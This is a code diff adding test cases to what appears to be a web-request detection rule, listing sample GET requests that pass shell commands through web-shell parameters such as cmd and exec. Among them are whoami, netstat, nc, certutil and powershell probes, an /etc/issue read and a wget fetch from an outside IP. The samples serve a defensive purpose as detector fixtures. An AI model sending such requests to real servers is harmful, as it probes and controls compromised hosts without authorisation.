@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -79,6 +80,23 @@ export default defineRule({
     'GET /a.aspx?c=whoami HTTP/1.1',
     'GET /a.php?0=ls%20-la HTTP/1.1',
     'GET /cgi-bin/x.cgi?system_command=wget+http://203.0.113.9/x HTTP/1.1',
+    ...each('GET /img/x.php?{}=id HTTP/1.1', 'run system sys ipt shell'),
+    ...each(
+      'GET /img/x.php?cmd={} HTTP/1.1',
+      'whoami uname ls dir pwd ipconfig ifconfig netstat hostname ver systeminfo tasklist ps env set phpinfo',
+    ),
+    ...each('GET /img/x.php?cmd=id{} HTTP/1.1', '+- +/ ('),
+    ...each(
+      'GET /a.jsp?exec={}%20/etc/issue HTTP/1.1',
+      `curl ping echo net type bash sh rm python perl php powershell nc nslookup certutil sleep touch find
+    grep head tail cd chmod`,
+    ),
+    ...each('GET /a.aspx?{}=whoami HTTP/1.1', 'code pass do act a q1'),
+    ...each('GET /a.aspx?c={} HTTP/1.1', 'ifconfig ipconfig netstat systeminfo tasklist'),
+    ...each('GET /a.php?0={}%20-la HTTP/1.1', 'cat wget curl echo bash rm dir'),
+    ...each('GET /a.php?0=ls%20{} HTTP/1.1', '/ a:\\ http:'),
+    'GET /img/x.php?cmd=+id HTTP/1.1',
+    'GET /img/x.php?cmd=+ls HTTP/1.1',
   ],
   misses: [
     'GET /shop?cmd=view_cart HTTP/1.1',
@@ -86,5 +104,6 @@ export default defineRule({
     'GET /api?command=list HTTP/1.1',
     'GET /api?execute=true HTTP/1.1',
     'GET /pets?x=cat+and+dog HTTP/1.1',
+    { message: 'cmd=id' },
   ],
 })
